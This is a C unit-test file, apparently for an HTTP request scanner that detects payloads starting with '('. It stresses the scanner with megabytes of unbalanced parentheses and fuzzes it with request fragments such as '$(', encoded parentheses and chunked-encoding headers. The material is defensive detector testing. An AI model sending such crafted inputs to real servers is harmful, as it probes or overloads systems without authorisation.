/* A JSON body of strings that all start with an opener-like "(" */
static void fill_json(char *r, size_t n)
{
    static const char head[] = "POST / HTTP/1.1\r\nContent-Type: application/json\r\n\r\n[";
    memcpy(r, head, sizeof(head) - 1);
    for (size_t i = sizeof(head) - 1; i < n; i++)
        r[i] = "\"( \","[i % 5];
}

/* Many cookies whose values all start with "(". */
static void fill_cookies(char *r, size_t n)
{
    memcpy(r, "GET / HTTP/1.1\r\nCookie: ", 24);
    for (size_t i = 24; i < n; i++)
        r[i] = "a=( ;"[i % 5];
}

static void test_huge_request(void)
{
    /* Megabytes of hostile bytes with '(' everywhere and ')' nowhere:
     * nothing found, the prefilter says no, and the work stays linear in
     * the size. */
    size_t n = 1u << 20;
    assert_linear(fill_parens, n, 0, false, "parentheses");
    assert_linear(fill_folded, n, 0, false, "folded lines");
    assert_linear(fill_query, n, 0, false, "query");
    assert_linear(fill_json, n, 0, false, "JSON strings");
    assert_linear(fill_cookies, n, 0, false, "cookies");
}

/* Random requests built from HTTP-ish pieces: the invariants hold. */
static void test_random_requests(void)
{
    static const char *const pieces[] = {
        "GET ", "POST ", "/", "?", "&", "=", "#", "%28", "%29", "%20", "%7B", "%", "(", ")", " ",
        "{", "}", ";", ":", "\r\n", "\n", "\r\n\r\n", "HTTP/1.1", "Cookie: ", "User-Agent: ",
        "Content-Length: 5", "Transfer-Encoding: chunked", "Content-Type: application/json",
        "Content-Type: application/x-www-form-urlencoded", "\"", "\\u0028", "\\", "5\r\n", "0\r\n",
        "+", "'", "<<", "$(", "]", ">", "\t", "x", "\0",
    };
    unsigned seed = 42;
    char buf[512];
    for (int round = 0; round < 30000; round++) {
        size_t n = 0;
        seed = seed * 1103515245u + 12345u;
        size_t count = (seed >> 16) % 40;
        for (size_t k = 0; k < count; k++) {
            seed = seed * 1103515245u + 12345u;
            const char *p = pieces[(seed >> 16) % (sizeof(pieces) / sizeof(pieces[0]))];
            size_t len = *p ? strlen(p) : 1;
            if (n + len > sizeof(buf))
                break;
            memcpy(buf + n, p, len);
            n += len;
        }
        bool pf;
        size_t got = scan_n(buf, n, &pf);
        CU_ASSERT(got <= SS_MAX_PAYLOADS);
        if (got > 0 && !pf) {
            fprintf(stderr, "\n  prefilter missed a payload in round %d\n", round);
            CU_FAIL("prefilter is not a superset");
            break;
        }
    }
}

static int suite_init(void)
{
    rules = ss_rules_new();
    ss_result_init(&res);
    return rules ? 0 : -1;
}

static int suite_cleanup(void)
{
    ss_result_free(&res);
    ss_rules_free(rules);
    return 0;
}

static CU_TestInfo tests[] = {
    {"every value start finds its payload", test_positive_cases},
    {"the contract's negatives find nothing", test_negative_cases},
    {"prefilter lets ordinary traffic go", test_prefilter_ordinary},
    {"prefilter table", test_prefilter_table},
    {"raw offsets", test_raw_offsets},
    {"simple grades", test_simple_grades},
    {"truncated requests", test_truncated},
    {"NUL bytes", test_nul_bytes},
    {"header cap", test_header_caps},
    {"payload cap", test_payload_cap},
    {"value cap", test_value_cap},
    {"bad percent escapes", test_bad_percent},
    {"Content-Length and chunks beyond the data", test_body_truncated},
    {"unbalanced braces", test_unbalanced},
    {"huge requests", test_huge_request},
    {"random requests", test_random_requests},
    CU_TEST_INFO_NULL,
};

HS_UNIT_MAIN_FIXTURE("http", suite_init, suite_cleanup, tests)
